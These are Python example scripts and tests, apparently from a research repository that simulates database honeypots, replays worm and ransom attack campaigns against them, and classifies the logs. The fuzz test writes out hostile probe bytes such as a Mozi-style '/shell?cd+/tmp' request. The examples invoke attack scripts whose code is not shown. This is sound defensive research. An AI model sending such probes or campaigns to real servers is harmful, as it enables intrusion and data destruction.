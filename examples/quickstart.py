"""Quickstart: attack one honeypot and analyze what it saw.

Boots a medium-interaction Redis honeypot in-process, replays the
P2PInfect worm sequence (the paper's Listing 1) against it, then runs
the honeypot's log through classification and campaign tagging.

Run:  python examples/quickstart.py
"""

import random

from repro.agents.base import VisitContext
from repro.agents.exploits import redis_attacks
from repro.core.classification import classify_profile
from repro.core.campaigns import tag_profile
from repro.core.loading import IpProfile
from repro.honeypots import RedisHoneypot
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore


def main() -> None:
    honeypot = RedisHoneypot("quickstart-redis", config="default")
    store = LogStore()
    clock = SimClock()
    attacker_ip = "203.0.113.66"

    def opener(target_key=None):
        context = SessionContext(attacker_ip, 51234, clock, store.append)
        return MemoryWire(honeypot, context)

    print(f"[*] attacking {honeypot.info.honeypot_id} from "
          f"{attacker_ip} with the P2PInfect sequence...")
    context = VisitContext(opener=opener, target_key="redis",
                           rng=random.Random(0))
    redis_attacks.p2pinfect_script(context)

    print(f"[*] honeypot logged {len(store)} events:")
    for event in store:
        detail = event.action or event.event_type
        print(f"      {event.event_type:13s} {detail}")

    # Build the per-IP profile the analysis layer works with.
    profile = IpProfile(src_ip=attacker_ip, dbms="redis")
    for event in store:
        if event.action:
            profile.actions.append(event.action)
        if event.raw:
            profile.raws.append(event.raw)

    classification = classify_profile(profile)
    tags = tag_profile(profile)
    print(f"[*] classification: {classification.primary.value}"
          f"  (classes: {sorted(c.value for c in classification.classes)})")
    print(f"[*] campaign tags:  {sorted(tags)}")
    print(f"[*] honeypot keyspace afterwards: "
          f"{honeypot.engine.dbsize()} keys, "
          f"role={honeypot.engine.replication.role}, "
          f"config dir={honeypot.engine.config_get('dir')['dir']}")


if __name__ == "__main__":
    main()
