"""Live honeyfarm: serve all five honeypot families over real TCP.

Starts one instance of every honeypot family on loopback ports, drives
a mix of scanners, scouts and exploit campaigns against them over real
sockets, then converts the captured logs to SQLite and prints the
classification -- the full Figure 1 pipeline over an actual network.

Run:  python examples/live_honeyfarm.py
"""

import asyncio
import random
from pathlib import Path

from repro.agents.base import VisitContext
from repro.agents.exploits import (mongo_attacks, postgres_attacks,
                                   redis_attacks)
from repro.clients import RedisClient, TcpWire
from repro.core.campaigns import campaign_summary
from repro.core.loading import load_ip_profiles
from repro.core.reports import classification_table, format_table
from repro.honeypots import (Elasticpot, MongoHoneypot, RedisHoneypot,
                             StickyElephant)
from repro.honeypots.tcp import serve_honeypots
from repro.netsim.address_space import AddressSpace
from repro.netsim.asdb import ASType
from repro.netsim.clock import SimClock
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.convert import convert_to_sqlite
from repro.pipeline.logstore import LogStore


async def run() -> None:
    clock = SimClock()
    store = LogStore()
    honeypots = [
        RedisHoneypot("live-redis", config="fake_data"),
        StickyElephant("live-postgresql"),
        Elasticpot("live-elasticsearch"),
        MongoHoneypot("live-mongodb"),
    ]
    servers = await serve_honeypots(honeypots, clock, store.append)
    ports = {server.honeypot.dbms: server.port for server in servers}
    print("[*] honeypots listening on 127.0.0.1:")
    for dbms, port in ports.items():
        print(f"      {dbms:15s} port {port}")

    rng = random.Random(7)

    def attack(dbms, script):
        def opener(target_key=None):
            return TcpWire("127.0.0.1", ports[dbms])

        clock.advance(minutes=rng.randint(10, 240))
        script(VisitContext(opener=opener, target_key=dbms, rng=rng))

    loop = asyncio.get_running_loop()
    print("[*] replaying attack campaigns over TCP...")
    for dbms, script, label in [
        ("redis", redis_attacks.p2pinfect_script, "P2PInfect"),
        ("redis", redis_attacks.cve_2022_0543_script, "CVE-2022-0543"),
        ("postgresql", postgres_attacks.kinsing_script, "Kinsing"),
        ("postgresql", postgres_attacks.privilege_manipulation_script,
         "privilege manipulation"),
        ("postgresql", redis_attacks.rdp_scan_script, "RDP probe"),
        ("mongodb", mongo_attacks.ransom_group1_script, "ransom"),
    ]:
        print(f"      {label} -> {dbms}")
        await loop.run_in_executor(None, attack, dbms, script)

    # A few scouts for contrast.
    def scout_redis():
        client = RedisClient(TcpWire("127.0.0.1", ports["redis"]))
        client.connect()
        client.command("INFO")
        keys = client.command("KEYS", "*")
        print(f"      scout saw {len(keys) if isinstance(keys, list) else 0}"
              f" Redis keys (decoys + attacker leftovers)")
        client.close()

    clock.advance(hours=1)
    await loop.run_in_executor(None, scout_redis)

    for server in servers:
        await server.stop()

    print(f"[*] captured {len(store)} events; converting to SQLite...")
    space = AddressSpace()
    space.register_as(64500, "LOOPBACK-LAB", "Netherlands",
                      ASType.HOSTING)
    geoip = GeoIPDatabase.from_address_space(space)
    db = convert_to_sqlite(store.events(), Path("live-honeyfarm.sqlite"),
                           geoip)
    profiles = load_ip_profiles(db)
    print("\n-- classification of the live traffic")
    print(format_table(
        ["DBMS", "#IP", "Scan", "Scout", "Exploit", "#Cls"],
        [[r.dbms, r.total_ips, r.scanning, r.scouting, r.exploiting,
          r.clusters]
         for r in classification_table(profiles,
                                       distance_threshold=0.1)]))
    print("\n-- campaigns detected")
    print(format_table(
        ["Category", "Attack", "#IP"],
        [[r.category, r.tag, r.ip_count]
         for r in campaign_summary(profiles)]))


if __name__ == "__main__":
    asyncio.run(run())
