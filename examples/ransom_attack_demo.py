"""Ransom attack, end to end, against the high-interaction MongoDB.

Shows why the high-interaction tier matters: the honeypot's database
really holds (fake) customer data, the attacker really exfiltrates and
deletes it, and the ransom note really replaces it -- including the
paper's observation that repeat visits overwrite the previous note, so
a paying victim may recover nothing but an older ransom note.

Run:  python examples/ransom_attack_demo.py
"""

import random

from repro.agents.base import VisitContext
from repro.agents.exploits import mongo_attacks
from repro.core.campaigns import ransom_templates, tag_profile
from repro.core.loading import IpProfile
from repro.honeypots import MongoHoneypot
from repro.honeypots.base import MemoryWire, SessionContext
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore


def profile_from(store: LogStore, ip: str) -> IpProfile:
    profile = IpProfile(src_ip=ip, dbms="mongodb")
    for event in store:
        if event.src_ip != ip:
            continue
        if event.action:
            profile.actions.append(event.action)
        if event.raw:
            profile.raws.append(event.raw)
    return profile


def main() -> None:
    honeypot = MongoHoneypot("demo-mongo", config="fake_data")
    store = LogStore()
    clock = SimClock()
    engine = honeypot.engine

    records = engine.count("customers", "records")
    sample = engine.find("customers", "records", limit=2)
    print(f"[*] decoy database holds {records} fake customer records, "
          f"e.g.:")
    for document in sample:
        print(f"      {document['first_name']} {document['last_name']}, "
              f"card {document['credit_card']}")

    def attacker(ip):
        def opener(target_key=None):
            return MemoryWire(honeypot, SessionContext(
                ip, 40000, clock, store.append))

        return VisitContext(opener=opener, target_key="mongo",
                            rng=random.Random(ip))

    print("\n[*] day 3: ransom group 1 strikes...")
    clock.advance(days=3)
    mongo_attacks.ransom_group1_script(attacker("198.51.100.21"))
    print(f"      records left: "
          f"{engine.count('customers', 'records')}")
    note = engine.find("customers", "README")[0]["content"]
    print(f"      ransom note: {note[:70]}...")

    print("\n[*] day 9: ransom group 2 returns, replacing the note...")
    clock.advance(days=6)
    mongo_attacks.ransom_group2_script(attacker("198.51.100.77"))
    notes = engine.find("customers", "README")
    print(f"      notes present: {len(notes)}")
    print(f"      current note: {notes[0]['content'][:70]}...")
    print("      (a victim paying group 1 now would recover nothing "
          "but group 2's note)")

    print("\n[*] analysis view:")
    for ip in ("198.51.100.21", "198.51.100.77"):
        profile = profile_from(store, ip)
        print(f"      {ip}: tags={sorted(tag_profile(profile))} "
              f"template={sorted(ransom_templates(profile))}")


if __name__ == "__main__":
    main()
