"""Threat-intelligence workflow over an exported dataset.

Runs a small deployment, exports the anonymized Appendix-B dataset,
then analyzes it the way a downstream consumer would: reload the raw
JSONL records, pivot attack campaigns on shared loader infrastructure
(IOC extraction, including base64-decoded payload stages), and print
the indicators a defender would block.

Run:  python examples/analyze_dataset.py
"""

import tempfile
from collections import Counter
from pathlib import Path

from repro.core.iocs import extract_iocs
from repro.core.reports import format_table
from repro.deployment import ExperimentConfig, run_experiment
from repro.pipeline.dataset import load_dataset


def main() -> None:
    output = Path(tempfile.mkdtemp(prefix="decoy-dataset-"))
    print("[*] running a small deployment and exporting the dataset...")
    result = run_experiment(ExperimentConfig(
        seed=7, volume_scale=0.0002, output_dir=output,
        export_dataset=True))
    print(f"[*] dataset: {result.dataset_dir}")

    records = load_dataset(result.dataset_dir)
    print(f"[*] {len(records)} public records across "
          f"{len({r['dest_ip'] for r in records})} anonymized honeypots")

    by_type = Counter(record["event_type"] for record in records)
    print("    event mix:", dict(by_type.most_common()))

    # IOC pivot: group attacker IPs by the loader infrastructure their
    # payloads reference.
    raws_by_ip: dict[str, list[str]] = {}
    for record in records:
        if record.get("raw"):
            raws_by_ip.setdefault(record["src_ip"], []).append(
                record["raw"])
    endpoints: dict[str, set[str]] = {}
    note_indicators = set()
    for src_ip, raws in raws_by_ip.items():
        iocs = extract_iocs(raws)
        for endpoint in iocs.loader_endpoints:
            endpoints.setdefault(endpoint, set()).add(src_ip)
        note_indicators |= iocs.btc_addresses

    shared = {endpoint: ips for endpoint, ips in endpoints.items()
              if len(ips) >= 2}
    print("\n-- campaign infrastructure (loader endpoints shared by "
          ">=2 attacker IPs)")
    print(format_table(
        ["Loader endpoint", "#Attacker IPs"],
        [[endpoint, len(ips)]
         for endpoint, ips in sorted(shared.items(),
                                     key=lambda item: -len(item[1]))]))

    print("\n-- ransom payment indicators")
    for address in sorted(note_indicators):
        print(f"      BTC {address}")
    print("\n[*] blocklist candidates: "
          f"{sum(len(ips) for ips in shared.values())} IPs via "
          f"{len(shared)} shared endpoints")


if __name__ == "__main__":
    main()
