"""Replay the paper's full 20-day deployment and print its key tables.

Runs the 278-honeypot deployment against the calibrated synthetic actor
population (login volumes scaled by --scale), converts the logs to
SQLite, and regenerates Tables 5, 8 and 9 plus the headline statistics
of Sections 5 and 6.

Run:  python examples/run_experiment.py [--scale 0.001] [--seed 2024]
"""

import argparse
from pathlib import Path

from repro.core.bruteforce import (brute_force_ips, credential_stats,
                                   logins_by_country)
from repro.core.campaigns import campaign_summary
from repro.core.loading import load_ip_profiles
from repro.core.reports import (classification_table, extrapolate,
                                format_table)
from repro.core.temporal import hourly_series
from repro.deployment import ExperimentConfig, run_experiment


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--scale", type=float, default=0.001,
                        help="login volume scale factor (default 1/1000)")
    parser.add_argument("--seed", type=int, default=2024)
    parser.add_argument("--output", type=Path,
                        default=Path("experiment-output"))
    args = parser.parse_args()

    print(f"[*] running the 20-day experiment "
          f"(seed={args.seed}, scale={args.scale})...")
    result = run_experiment(ExperimentConfig(
        seed=args.seed, volume_scale=args.scale,
        output_dir=args.output))
    print(f"[*] {result.visits_total:,} attacker visits, "
          f"{result.events_total:,} honeypot events")
    print(f"[*] databases: {result.low_db}, {result.midhigh_db}")

    series = hourly_series(result.low_db)
    print(f"\n-- Figure 2: {series.total_unique} unique low-tier IPs, "
          f"{series.mean_clients_per_hour():.1f} clients/hour, "
          f"{series.mean_new_per_hour():.1f} new/hour")

    print("\n-- Table 5: top-10 countries by login attempts "
          "(extrapolated to paper scale)")
    rows = logins_by_country(result.low_db, top=10)
    print(format_table(
        ["Country", "#Logins", "extrapolated", "#IP/Total"],
        [[r.country, r.logins, f"{extrapolate(r.logins, args.scale):,}",
          f"{r.login_ips}/{r.total_ips}"] for r in rows]))

    stats = credential_stats(result.low_db, "mssql")
    print(f"\n-- Table 12: top MSSQL pair "
          f"{stats.top_pairs[0][0]} x{stats.top_pairs[0][1]}; "
          f"{stats.unique_combinations} unique combinations from "
          f"{len(brute_force_ips(result.low_db))} brute-forcing IPs")

    print("\n-- Table 8: medium/high classification")
    mid_profiles = load_ip_profiles(result.midhigh_db)
    table8 = classification_table(mid_profiles, distance_threshold=0.1)
    print(format_table(
        ["DBMS", "#IP", "Scan", "Scout", "Exploit", "#Cls"],
        [[r.dbms, r.total_ips, r.scanning, r.scouting, r.exploiting,
          r.clusters] for r in table8]))

    print("\n-- Table 9: attack campaigns")
    print(format_table(
        ["Category", "DBMS", "Attack", "#IP"],
        [[r.category, r.dbms, r.tag, r.ip_count]
         for r in campaign_summary(mid_profiles)]))


if __name__ == "__main__":
    main()
