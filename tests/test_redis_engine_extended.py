"""Tests for the extended Redis engine surface (expiry, counters,
lists) at both the engine and honeypot layers."""

import pytest

from repro.honeypots import RedisHoneypot
from repro.honeypots.base import MemoryWire
from repro.protocols import resp
from repro.redis_engine import RedisEngine, WrongTypeError


@pytest.fixture
def engine() -> RedisEngine:
    return RedisEngine()


class TestExpiry:
    def test_expire_and_ttl(self, engine):
        engine.set(b"k", b"v")
        assert engine.expire(b"k", 10, now=100.0)
        assert engine.ttl(b"k", now=105.0) == 5
        assert engine.ttl(b"k", now=100.0) == 10

    def test_expired_key_vanishes(self, engine):
        engine.set(b"k", b"v", ex=10, now=100.0)
        assert engine.get(b"k", now=109.0) == b"v"
        assert engine.get(b"k", now=110.0) is None
        assert not engine.exists(b"k")

    def test_ttl_semantics(self, engine):
        assert engine.ttl(b"missing") == -2
        engine.set(b"k", b"v")
        assert engine.ttl(b"k") == -1

    def test_persist_removes_expiry(self, engine):
        engine.set(b"k", b"v", ex=10, now=0.0)
        assert engine.persist(b"k", now=5.0)
        assert engine.ttl(b"k", now=999.0) == -1
        assert not engine.persist(b"k")

    def test_expire_missing_key_false(self, engine):
        assert not engine.expire(b"missing", 10, now=0.0)

    def test_set_clears_old_expiry(self, engine):
        engine.set(b"k", b"v", ex=10, now=0.0)
        engine.set(b"k", b"w")
        assert engine.ttl(b"k", now=999.0) == -1

    def test_delete_clears_expiry(self, engine):
        engine.set(b"k", b"v", ex=10, now=0.0)
        engine.delete([b"k"])
        engine.set(b"k", b"w")
        assert engine.get(b"k", now=999.0) == b"w"


class TestCounters:
    def test_incr_from_missing(self, engine):
        assert engine.incrby(b"n", 1) == 1
        assert engine.incrby(b"n", 5) == 6
        assert engine.incrby(b"n", -2) == 4

    def test_incr_non_integer_raises(self, engine):
        engine.set(b"s", b"hello")
        with pytest.raises(ValueError):
            engine.incrby(b"s", 1)

    def test_append(self, engine):
        assert engine.append(b"a", b"foo") == 3
        assert engine.append(b"a", b"bar") == 6
        assert engine.get(b"a") == b"foobar"


class TestLists:
    def test_push_and_range(self, engine):
        assert engine.rpush(b"l", [b"a", b"b"]) == 2
        assert engine.lpush(b"l", [b"z"]) == 3
        assert engine.lrange(b"l", 0, -1) == [b"z", b"a", b"b"]
        assert engine.lrange(b"l", 1, 1) == [b"a"]
        assert engine.llen(b"l") == 3

    def test_lpop(self, engine):
        engine.rpush(b"l", [b"x", b"y"])
        assert engine.lpop(b"l") == b"x"
        assert engine.lpop(b"l") == b"y"
        assert engine.lpop(b"l") is None
        assert not engine.exists(b"l")

    def test_type_and_keys_include_lists(self, engine):
        engine.rpush(b"l", [b"x"])
        assert engine.type(b"l") == "list"
        assert engine.keys() == [b"l"]
        assert engine.dbsize() == 1

    def test_wrong_type_guards(self, engine):
        engine.set(b"s", b"v")
        with pytest.raises(WrongTypeError):
            engine.rpush(b"s", [b"x"])
        engine.rpush(b"l", [b"x"])
        with pytest.raises(WrongTypeError):
            engine.get(b"l")

    def test_negative_range_bounds(self, engine):
        engine.rpush(b"l", [b"a", b"b", b"c", b"d"])
        assert engine.lrange(b"l", -2, -1) == [b"c", b"d"]
        assert engine.lrange(b"l", 0, -5) == []


class TestHoneypotDispatch:
    @pytest.fixture
    def wire(self, session_context):
        wire = MemoryWire(RedisHoneypot("hp"), session_context)
        wire.connect()
        return wire

    def decode(self, data):
        (value,) = resp.RespParser().feed(data)
        return value

    def test_setex_ttl_roundtrip(self, wire, clock):
        assert self.decode(wire.send(
            resp.encode_command("SETEX", "k", "60", "v"))).value == "OK"
        ttl = self.decode(wire.send(resp.encode_command("TTL", "k")))
        assert 0 < ttl <= 60
        clock.advance(seconds=61)
        assert self.decode(wire.send(
            resp.encode_command("GET", "k"))) is None

    def test_set_with_ex_option(self, wire, clock):
        wire.send(resp.encode_command("SET", "k", "v", "EX", "30"))
        ttl = self.decode(wire.send(resp.encode_command("TTL", "k")))
        assert 0 < ttl <= 30

    def test_set_bad_option_errors(self, wire):
        reply = self.decode(wire.send(
            resp.encode_command("SET", "k", "v", "BOGUS")))
        assert isinstance(reply, resp.Error)

    def test_incr_decr(self, wire):
        assert self.decode(wire.send(
            resp.encode_command("INCR", "n"))) == 1
        assert self.decode(wire.send(
            resp.encode_command("INCRBY", "n", "10"))) == 11
        assert self.decode(wire.send(
            resp.encode_command("DECR", "n"))) == 10

    def test_list_commands(self, wire):
        wire.send(resp.encode_command("RPUSH", "q", "a", "b"))
        wire.send(resp.encode_command("LPUSH", "q", "z"))
        assert self.decode(wire.send(
            resp.encode_command("LRANGE", "q", "0", "-1"))) == [
            b"z", b"a", b"b"]
        assert self.decode(wire.send(
            resp.encode_command("LLEN", "q"))) == 3
        assert self.decode(wire.send(
            resp.encode_command("LPOP", "q"))) == b"z"
        assert self.decode(wire.send(
            resp.encode_command("TYPE", "q"))).value == "list"

    def test_persist_command(self, wire):
        wire.send(resp.encode_command("SETEX", "k", "60", "v"))
        assert self.decode(wire.send(
            resp.encode_command("PERSIST", "k"))) == 1
        assert self.decode(wire.send(
            resp.encode_command("TTL", "k"))) == -1
