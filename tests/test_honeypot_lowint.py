"""Tests for the low-interaction (credential capture) honeypots."""

import pytest

from repro.honeypots import (LowInteractionMSSQL, LowInteractionMySQL,
                             LowInteractionPostgres, LowInteractionRedis)
from repro.honeypots.base import MemoryWire
from repro.pipeline.logstore import EventType
from repro.protocols import mysql, postgres as pg, resp, tds


def events_of(store, event_type):
    return [e for e in store if e.event_type == event_type.value]


class TestMySQLLow:
    def test_captures_cleartext_credentials(self, session_context,
                                            log_store):
        wire = MemoryWire(LowInteractionMySQL("hp"), session_context)
        greeting = wire.connect()
        (packet,) = mysql.PacketReader().feed(greeting)
        handshake = mysql.parse_handshake_v10(packet[1])
        assert handshake.server_version == "8.0.36"
        reply = wire.send(mysql.frame(
            mysql.build_handshake_response("root", b"\x00" * 20), 1))
        (packet,) = mysql.PacketReader().feed(reply)
        assert mysql.is_auth_switch(packet[1])
        plugin, _ = mysql.parse_auth_switch_request(packet[1])
        assert plugin == mysql.CLEAR_PASSWORD_PLUGIN
        reply = wire.send(mysql.frame(
            mysql.build_clear_password_response("letmein"), 3))
        (packet,) = mysql.PacketReader().feed(reply)
        err = mysql.parse_err(packet[1])
        assert err.code == mysql.ER_ACCESS_DENIED
        assert wire.server_closed
        (login,) = events_of(log_store, EventType.LOGIN_ATTEMPT)
        assert login.username == "root"
        assert login.password == "letmein"
        assert login.dbms == "mysql"

    def test_garbage_logged_as_malformed(self, session_context,
                                         log_store):
        wire = MemoryWire(LowInteractionMySQL("hp"), session_context)
        wire.connect()
        wire.send(mysql.frame(b"\x00\x01\x02", 1))
        wire.close()
        assert events_of(log_store, EventType.MALFORMED)


class TestPostgresLow:
    def test_captures_credentials_and_denies(self, session_context,
                                             log_store):
        wire = MemoryWire(LowInteractionPostgres("hp"), session_context)
        wire.connect()
        assert wire.send(pg.build_ssl_request()) == b"N"
        reply = wire.send(pg.build_startup_message("postgres"))
        (message,) = pg.parse_backend_messages(reply)
        assert message.type_code == b"R"
        reply = wire.send(pg.build_password_message("toor"))
        (message,) = pg.parse_backend_messages(reply)
        fields = pg.parse_error_fields(message.payload)
        assert fields["C"] == "28P01"
        (login,) = events_of(log_store, EventType.LOGIN_ATTEMPT)
        assert (login.username, login.password) == ("postgres", "toor")

    def test_terminate_closes_quietly(self, session_context, log_store):
        wire = MemoryWire(LowInteractionPostgres("hp"), session_context)
        wire.connect()
        wire.send(pg.build_startup_message("u"))
        wire.send(pg.build_terminate())
        assert wire.server_closed
        assert not events_of(log_store, EventType.LOGIN_ATTEMPT)


class TestRedisLow:
    def test_noauth_for_commands(self, session_context, log_store):
        wire = MemoryWire(LowInteractionRedis("hp"), session_context)
        wire.connect()
        assert b"NOAUTH" in wire.send(resp.encode_command("INFO"))
        (command,) = events_of(log_store, EventType.COMMAND)
        assert command.action == "INFO"

    def test_auth_captured_and_rejected(self, session_context, log_store):
        wire = MemoryWire(LowInteractionRedis("hp"), session_context)
        wire.connect()
        assert b"WRONGPASS" in wire.send(
            resp.encode_command("AUTH", "secret"))
        assert b"WRONGPASS" in wire.send(
            resp.encode_command("AUTH", "bob", "pw"))
        logins = events_of(log_store, EventType.LOGIN_ATTEMPT)
        assert [(l.username, l.password) for l in logins] == [
            ("default", "secret"), ("bob", "pw")]

    def test_pending_garbage_flushed_on_disconnect(self, session_context,
                                                   log_store):
        wire = MemoryWire(LowInteractionRedis("hp"), session_context)
        wire.connect()
        wire.send(b"JDWP-Handshake")
        wire.close()
        (malformed,) = events_of(log_store, EventType.MALFORMED)
        assert "JDWP-Handshake" in malformed.raw


class TestMSSQLLow:
    def test_prelogin_then_login_denied(self, session_context, log_store):
        wire = MemoryWire(LowInteractionMSSQL("hp"), session_context)
        wire.connect()
        reply = wire.send(tds.frame(tds.PKT_PRELOGIN,
                                    tds.build_prelogin()))
        (packet,) = tds.PacketReader().feed(reply)
        assert packet[0] == tds.PKT_RESPONSE
        assert tds.parse_prelogin(packet[1])
        reply = wire.send(tds.frame(tds.PKT_LOGIN7,
                                    tds.build_login7("sa", "123")))
        (packet,) = tds.PacketReader().feed(reply)
        tokens = tds.parse_tokens(packet[1])
        assert tokens[0].number == tds.MSSQL_LOGIN_FAILED
        assert wire.server_closed
        (login,) = events_of(log_store, EventType.LOGIN_ATTEMPT)
        assert (login.username, login.password) == ("sa", "123")

    def test_empty_password_captured(self, session_context, log_store):
        wire = MemoryWire(LowInteractionMSSQL("hp"), session_context)
        wire.connect()
        wire.send(tds.frame(tds.PKT_PRELOGIN, tds.build_prelogin()))
        wire.send(tds.frame(tds.PKT_LOGIN7, tds.build_login7("hbv7", "")))
        (login,) = events_of(log_store, EventType.LOGIN_ATTEMPT)
        assert (login.username, login.password) == ("hbv7", "")


@pytest.mark.parametrize("factory,dbms,port", [
    (LowInteractionMySQL, "mysql", 3306),
    (LowInteractionPostgres, "postgresql", 5432),
    (LowInteractionRedis, "redis", 6379),
    (LowInteractionMSSQL, "mssql", 1433),
])
def test_metadata(factory, dbms, port):
    honeypot = factory("hp-1", config="multi")
    assert honeypot.info.dbms == dbms
    assert honeypot.info.port == port
    assert honeypot.info.interaction == "low"
    assert honeypot.info.config == "multi"
    assert honeypot.info.honeypot_type == "qeeqbox"


def test_connect_disconnect_logged(session_context, log_store):
    wire = MemoryWire(LowInteractionRedis("hp"), session_context)
    wire.connect()
    wire.close()
    types = [e.event_type for e in log_store]
    assert types == ["connect", "disconnect"]
