"""Robustness fuzzing: honeypots must survive arbitrary client bytes.

The paper's honeypots face whatever the Internet throws at them (RDP
cookies, TLS hellos, truncated protocols).  Property: no honeypot
session ever raises on any byte sequence, the connect/disconnect pair
is always logged, and a session reports closed-state consistently.
"""

import random

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from repro.honeypots import (Elasticpot, LowInteractionMSSQL,
                             LowInteractionMySQL, LowInteractionPostgres,
                             LowInteractionRedis, MongoHoneypot,
                             RedisHoneypot, StickyElephant)
from repro.honeypots.base import SessionContext
from repro.honeypots.extensions import (CockroachHoneypot,
                                        CouchDBHoneypot,
                                        LowInteractionMariaDB)
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import LogStore

FACTORIES = [
    lambda: LowInteractionMySQL("fuzz"),
    lambda: LowInteractionPostgres("fuzz"),
    lambda: LowInteractionRedis("fuzz"),
    lambda: LowInteractionMSSQL("fuzz"),
    lambda: RedisHoneypot("fuzz"),
    lambda: StickyElephant("fuzz"),
    lambda: Elasticpot("fuzz"),
    lambda: MongoHoneypot("fuzz", config="default"),
    lambda: LowInteractionMariaDB("fuzz"),
    lambda: CockroachHoneypot("fuzz"),
    lambda: CouchDBHoneypot("fuzz"),
]


def drive(factory, chunks):
    store = LogStore()
    context = SessionContext("203.0.113.1", 1234, SimClock(),
                             store.append)
    session = factory().new_session(context)
    greeting = session.connect()
    assert isinstance(greeting, bytes)
    for chunk in chunks:
        if session.closed:
            break
        reply = session.receive(chunk)
        assert isinstance(reply, bytes)
    session.disconnect()
    assert session.closed
    # receive() after close is a no-op, not an error.
    assert session.receive(b"more") == b""
    types = [event.event_type for event in store]
    assert types[0] == "connect"
    assert types[-1] == "disconnect"
    return store


@pytest.mark.parametrize("index", range(len(FACTORIES)))
@settings(max_examples=25, deadline=None,
          suppress_health_check=[HealthCheck.too_slow,
                                 HealthCheck.function_scoped_fixture])
@given(chunks=st.lists(st.binary(min_size=1, max_size=128), max_size=6))
def test_random_bytes_never_crash(index, chunks):
    drive(FACTORIES[index], chunks)


@pytest.mark.parametrize("index", range(len(FACTORIES)))
def test_realworld_garbage_probes(index):
    probes = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",  # TLS hello
        b"GET / HTTP/1.0\r\n\r\n",
        b"\x03\x00\x00+&\xe0\x00\x00\x00\x00\x00Cookie: "
        b"mstshash=Administr\r\n",
        b"JDWP-Handshake",
        b"SSH-2.0-OpenSSH_8.9\r\n",
        b"\x00" * 64,
        b"\xff" * 64,
    ]
    for probe in probes:
        drive(FACTORIES[index], [probe])


@pytest.mark.parametrize("index", range(len(FACTORIES)))
def test_single_byte_dribble(index):
    # One byte at a time must behave like one big chunk (no crashes, no
    # lost state).
    payload = b"PING\r\nGET / HTTP/1.1\r\n\r\n\x00\x01\x02"
    drive(FACTORIES[index], [bytes([b]) for b in payload])


GARBAGE_PREFIXES = [
    b"",
    b"\x16\x03\x01\x02\x00",            # TLS client hello fragment
    b"GET /shell?cd+/tmp HTTP/1.1\r\n",  # Mozi-style HTTP probe
    b"\x00\x00\x00\x00",
    b"\xff\xfe\xfd",
    b"SSH-2.0-Go\r\n",
]

PROTOCOLISH_TAILS = [
    b"PING\r\n*1\r\n$4\r\nINFO\r\n",
    b"\x03\x00\x00\x0b\x06\xe0\x00\x00\x00\x00\x00",
    b'{"query": {"match_all": {}}}\r\n\r\n',
    b"\x00\x00\x00\x24\x00\x00\x00\x00\xd4\x07\x00\x00",
    b"LOGIN sa 123456\r\n",
]


def random_splits(rng, payload):
    """Cut ``payload`` into 1..6 chunks at random byte boundaries."""
    if len(payload) < 2:
        return [payload] if payload else []
    cuts = sorted(rng.sample(range(1, len(payload)),
                             min(rng.randint(0, 5), len(payload) - 1)))
    return [payload[a:b]
            for a, b in zip([0] + cuts, cuts + [len(payload)])]


@pytest.mark.parametrize("index", range(len(FACTORIES)))
def test_seeded_fuzz_byte_splits_and_garbage_prefixes(index):
    # Deterministic fuzz pass (satellite of the fault-injection PR):
    # garbage prefixes glued to protocol-ish bytes, re-chunked at random
    # boundaries.  No exception may escape, and every event the session
    # does emit must be well-formed (JSON round-trip preserves it).
    rng = random.Random(f"fuzz:{index}")
    for round_number in range(12):
        payload = (rng.choice(GARBAGE_PREFIXES)
                   + rng.choice(PROTOCOLISH_TAILS)
                   + bytes(rng.randrange(256)
                           for _ in range(rng.randint(0, 40))))
        store = drive(FACTORIES[index], random_splits(rng, payload))
        for event in store:
            from repro.pipeline.logstore import LogEvent

            assert LogEvent.from_json(event.to_json()) == event
            assert event.event_type in {
                "connect", "disconnect", "login_attempt", "command",
                "query", "http_request", "malformed"}
