"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_subcommand(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_run_defaults(self):
        args = build_parser().parse_args(["run"])
        assert args.seed == 2024
        assert args.scale == 0.002
        assert not args.raw_logs

    def test_run_options(self, tmp_path):
        args = build_parser().parse_args(
            ["run", "--seed", "7", "--scale", "0.0005", "--output",
             str(tmp_path), "--dataset", "--raw-logs"])
        assert args.seed == 7
        assert args.scale == 0.0005
        assert args.dataset and args.raw_logs


class TestCommands:
    def test_run_then_report(self, tmp_path, capsys):
        output = tmp_path / "exp"
        code = main(["run", "--seed", "11", "--scale", "0.0002",
                     "--output", str(output), "--dataset"])
        assert code == 0
        captured = capsys.readouterr().out
        assert "low DB:" in captured
        assert "dataset:" in captured
        assert (output / "low.sqlite").exists()
        assert (output / "dataset" / "README.md").exists()

        code = main(["report", "--output", str(output),
                     "--scale", "0.0002"])
        assert code == 0
        captured = capsys.readouterr().out
        assert "Table 5" in captured
        assert "Table 8" in captured
        assert "Russia" in captured
        assert "Kinsing" in captured

    def test_report_missing_run_errors(self, tmp_path, capsys):
        code = main(["report", "--output", str(tmp_path / "nope")])
        assert code == 1
        assert "not found" in capsys.readouterr().err

    def test_export_dataset_command(self, tmp_path, capsys):
        output = tmp_path / "exp"
        code = main(["export-dataset", "--seed", "11", "--scale",
                     "0.0002", "--output", str(output)])
        assert code == 0
        assert (output / "dataset").is_dir()
        jsonl = list((output / "dataset").glob("*.jsonl"))
        assert jsonl
