"""Tests for the command-line interface."""

import json
from pathlib import Path

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_subcommand(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_run_defaults(self):
        args = build_parser().parse_args(["run"])
        assert args.seed == 2024
        assert args.scale == 0.002
        assert not args.raw_logs
        assert not args.telemetry
        assert args.trace_out is None

    def test_run_options(self, tmp_path):
        args = build_parser().parse_args(
            ["run", "--seed", "7", "--scale", "0.0005", "--output",
             str(tmp_path), "--dataset", "--raw-logs"])
        assert args.seed == 7
        assert args.scale == 0.0005
        assert args.dataset and args.raw_logs

    def test_run_telemetry_options(self, tmp_path):
        args = build_parser().parse_args(
            ["run", "--telemetry", "--trace-out",
